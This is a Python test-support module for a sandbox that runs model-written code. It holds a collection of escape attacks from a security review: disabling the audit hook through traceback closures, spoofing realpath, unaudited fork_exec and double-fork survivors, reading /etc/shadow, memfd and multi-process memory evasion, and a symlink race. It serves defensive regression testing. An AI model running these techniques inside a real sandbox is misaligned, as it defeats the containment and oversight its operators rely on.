"""Attacks on the sandbox from a security review (issue 22), as code a model could write.

Each attack is Python run by `run_python` (or, where it is native, a C program built and run
in a `Workspace`). It prints "ESCAPED ..." when it got through. The same code run without
the sandbox (`run_unprotected`) must escape, so that each test shows the sandbox is what
stops it. Used by tests/test_sandbox.py, in this process and as an unprivileged user.
"""

from __future__ import annotations

import contextlib

# Turn the audit hook off through a blocked call's traceback: the hook's frame holds its
# sibling closures, whose cells hold the deny function (shared with the hook's own cell);
# replace it with one that lets everything through, then write outside.
HOOK_VIA_FRAMES = r'''
import os, sys
target = sys.argv[1]
try:
    os.remove(target + ".nothing")
except OSError as e:
    tb = e.__traceback__
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                if getattr(cell.cell_contents, "__name__", "") == "deny":
                    cell.cell_contents = lambda *a: None
        tb = tb.tb_next
try:
    with open(target, "w") as f:
        f.write("pwned")
    print("ESCAPED write")
except OSError as e:
    print("blocked", e)
'''

# The hook's path check calls realpath, which trusts posixpath's own helpers.
POSIXPATH = r'''
import os, posixpath, sys
target = sys.argv[1]
posixpath._joinrealpath = lambda path, rest, *a, **k: ("/tmp/sandbox-inside/x", True)
posixpath.realpath = lambda p, *a, **k: os.getcwd() + "/x"
try:
    os.rename(target, target + ".moved")
    print("ESCAPED rename")
except OSError as e:
    print("blocked", e)
'''

# _posixsubprocess.fork_exec is not audited: a child the hook never sees, which writes
# outside and stays behind after the run.
FORK_EXEC = r'''
import os, sys, _posixsubprocess
target, token = sys.argv[1], sys.argv[2]
script = "echo pwned > %s; while :; do sleep 1; done; : %s" % (target, token)
args = [b"/bin/sh", b"-c", script.encode()]
r, w = os.pipe()
# CPython 3.11-3.13's argument list (3.10's lacks the process group and vfork ones)
common = (args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True)
try:
    try:
        pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
    except TypeError:
        pid = _posixsubprocess.fork_exec(*common, None, None, None, -1, None)
    print("started", pid)
except Exception as e:
    print("blocked", type(e).__name__, e)
'''

MKNOD = r'''
import os, stat, sys
d = os.path.dirname(sys.argv[1])
for name, make in (("fifo", lambda p: os.mkfifo(p)),
                   ("node", lambda p: os.mknod(p, 0o600 | stat.S_IFREG))):
    try:
        make(os.path.join(d, name))
        print("ESCAPED", name)
    except OSError as e:
        print("blocked", name, e)
'''

# Metadata through a read-only descriptor: chmod, utime, an extended attribute.
METADATA = r'''
import os, sys
target = sys.argv[1]
try:
    fd = os.open(target, os.O_RDONLY)
except OSError as e:
    print("blocked open", e)
    raise SystemExit
for name, call in (("fchmod", lambda: os.fchmod(fd, 0o777)),
                   ("utime", lambda: os.utime(fd, (0, 0))),
                   ("setxattr", lambda: os.setxattr(fd, "user.pwned", b"1")),
                   ("fchown", lambda: os.fchown(fd, 65534, 65534))):
    try:
        call()
        print("ESCAPED", name)
    except OSError as e:
        print("blocked", name, e)
'''

PIDFD_KILL = r'''
import os, signal, sys
pid = int(sys.argv[2])
try:
    fd = os.pidfd_open(pid)
    signal.pidfd_send_signal(fd, signal.SIGKILL)
    print("ESCAPED kill")
except OSError as e:
    print("blocked", e)
'''

# Memory that RLIMIT_AS does not count: written into memfds, never mapped.
MEMFD = r'''
import os, sys
want, chunk, got = int(sys.argv[2]) << 20, b"x" * (1 << 20), 0
fds = []
try:
    while got < want:
        fd = os.memfd_create("m")
        fds.append(fd)
        for _ in range(8):
            os.write(fd, chunk)
            got += len(chunk)
    print("ESCAPED memfd", got >> 20)
except OSError as e:
    print("blocked", got >> 20, e)
'''

SHM = r'''
import sys
name = "/dev/shm/" + sys.argv[2]
try:
    with open(name, "w") as f:
        f.write("left behind")
    print("wrote", name)
except OSError as e:
    print("blocked", e)
'''

# Many files, each under the per-file limit, together far over it.
DISK = r'''
import sys
per, total = int(sys.argv[2]) - 1, 0
try:
    for i in range(6):
        with open("f%d" % i, "wb") as f:
            f.write(b"x" * (per << 20))
        total += per
    print("ESCAPED disk", total)
except OSError as e:
    print("blocked", total, e)
'''

SHADOW = r'''
try:
    print("ESCAPED shadow", len(open("/etc/shadow").read()) > 0)
except OSError as e:
    print("blocked", e)
'''

UNIX_SOCKET = r'''
import socket, sys
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect(sys.argv[2])
    s.sendall(b"hello")
    print("ESCAPED unix")
except OSError as e:
    print("blocked", e)
'''

NETWORK = r'''
import socket, sys
port = int(sys.argv[2])
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(1)
        s.connect(("127.0.0.1", port))
        s.send(b"hello")
        print("sent", kind)
    except OSError as e:
        print("blocked", kind, e)
'''

# Native: fork, setsid, fork again and exec with an empty environment, so that neither the
# process group nor an environment marker finds the survivor. argv[1]: a token it carries.
ESCAPE_C = r'''
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            char script[200];
            snprintf(script, sizeof script, "while :; do sleep 1; done; : %s", argv[1]);
            char *args[] = {"/bin/sh", "-c", script, NULL};
            char *env[] = {NULL};
            execve("/bin/sh", args, env);
        }
        _exit(0);
    }
    printf("forked\n");
    return 0;
}
'''

# Native: chmod, utimes and a UNIX socket connect on host paths.
NATIVE_C = r'''
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>
int main(int argc, char **argv) {
    printf("chmod %d\n", chmod(argv[1], 0777));
    printf("utimes %d\n", utimes(argv[1], NULL));
    printf("setxattr %d\n", setxattr(argv[1], "user.pwned", "1", 1, 0));
    struct sockaddr_un a = {0};
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path, argv[2], sizeof a.sun_path - 1);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    printf("connect %d\n", connect(s, (struct sockaddr *) &a, sizeof a));
    return 0;
}
'''


# Check-then-use: a signal handler swaps "d" between a directory inside and a link to the
# victim's directory, so that a path checked while it was inside is opened while it is the
# link (the old audit hook fell after 22-65 tries). Unprotected, the link gets through.
RACE = r"""
import os, signal, sys
target = sys.argv[1]
name = os.path.basename(target)
os.mkdir("d")
os.symlink(os.path.dirname(target), "link")

busy = []

def swap(*_):
    if busy:  # a handler can be entered again before it returns
        return
    busy.append(1)
    try:
        if os.path.islink("d"):
            os.rename("d", "link")
            os.rename("real", "d")
        else:
            os.rename("d", "real")
            os.rename("link", "d")
    except OSError:
        pass
    finally:
        busy.clear()

def written():
    try:
        with open(target) as f:
            return "pwned" in f.read()
    except OSError:
        return False

signal.signal(signal.SIGALRM, swap)
signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
for tries in range(1, 3001):
    try:
        with open("d/" + name, "a") as f:
            f.write("pwned")
    except OSError:
        pass
    if written():
        print("ESCAPED race after", tries, "tries")
        break
else:
    print("blocked after", tries, "tries")
signal.setitimer(signal.ITIMER_REAL, 0)
"""

# Memory across processes: each child under the per-process bound, all of them together far
# over the run's. argv[2] children of argv[3] MB each, touched; "ESCAPED" when all held it.
MEMORY_TASKS = r"""
import os, sys, time
children, mb = int(sys.argv[2]), int(sys.argv[3])
pids = []
for _ in range(children):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        block = b"x" * (mb << 20)
        os.write(w, b"1")
        time.sleep(3)
        os._exit(0)
    os.close(w)
    pids.append((pid, r))
held = sum(os.read(r, 1) == b"1" for _, r in pids)
for pid, _ in pids:
    os.waitpid(pid, 0)
print(("ESCAPED memory" if held == children else "blocked memory"), held * mb, "MB")
"""

# Native, for Landlock alone: a write into a directory that the test binds writable (the
# first layer weakened on purpose), a TCP bind inside the sandbox's own network, and a
# signal to the process that started it (the sandbox's runner, the same user).
LANDLOCK_C = r"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
    FILE *f = fopen(argv[1], "a");
    printf("write %d\n", f != NULL && fputs("pwned", f) >= 0 && fclose(f) == 0);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(0x7f000001);
    printf("bind %d\n", s >= 0 && bind(s, (struct sockaddr *) &a, sizeof a) == 0);
    printf("signal %d\n", kill(getppid(), 0) == 0);
    return 0;
}
"""


def with_argv(code: str, *args: str) -> str:
    """The attack with its arguments in sys.argv[1:] (run_python takes no arguments)."""
    return f"import sys\nsys.argv[1:] = {list(args)!r}\n" + code


BOUND = "/srv/victim"  # where `weakened` binds a host directory (outside every tmpfs)


@contextlib.contextmanager
def weakened(bind: str = "", landlock: bool = True):
    """The sandbox with a layer taken away on purpose, to show what another holds alone:
    `bind` a host directory writable at BOUND; without `landlock`."""
    from vibe_ls.verify import jail

    mounts, abi = jail.Jail.mounts, jail.landlock_abi

    def with_bind(self) -> list[str]:
        args = mounts(self)
        at = args.index("--remount-ro")
        return [*args[:at], "--perms", "0755", "--dir", "/srv", "--bind", bind, BOUND,
                *args[at:]]

    if bind:
        jail.Jail.mounts = with_bind
    if not landlock:
        jail.landlock_abi = lambda: 0
    try:
        yield
    finally:
        jail.Jail.mounts, jail.landlock_abi = mounts, abi


def serve(request: dict) -> dict:
    """Run one attack in the sandbox: {"code", "native", "argv", "limits", and optionally
    "bind", "landlock" (see `weakened`)} -> the Outcome."""
    with weakened(request.get("bind", ""), request.get("landlock", True)):
        return _serve(request)


def _serve(request: dict) -> dict:
    from vibe_ls.verify import sandbox

    limits = sandbox.Limits(**request["limits"])
    if not request["native"]:
        return sandbox.run_python(with_argv(request["code"], *request["argv"]),
                                  limits=limits).__dict__
    with sandbox.Workspace({"p.c": request["code"]}) as space:
        built = space.run(["/usr/bin/gcc", "-o", "p", "p.c"], limits=sandbox.Limits(
            cpu_s=30, wall_s=60, processes=16, file_mb=64))
        if built.returncode != 0:
            return built.__dict__
        out = space.run([str(space.work / "p"), *request["argv"]], limits=limits)
        return {**out.__dict__, "workspace": str(space.base)}


if __name__ == "__main__":  # as an unprivileged user: a request on stdin, the outcome out
    import json
    import sys

    print(json.dumps(serve(json.load(sys.stdin))))
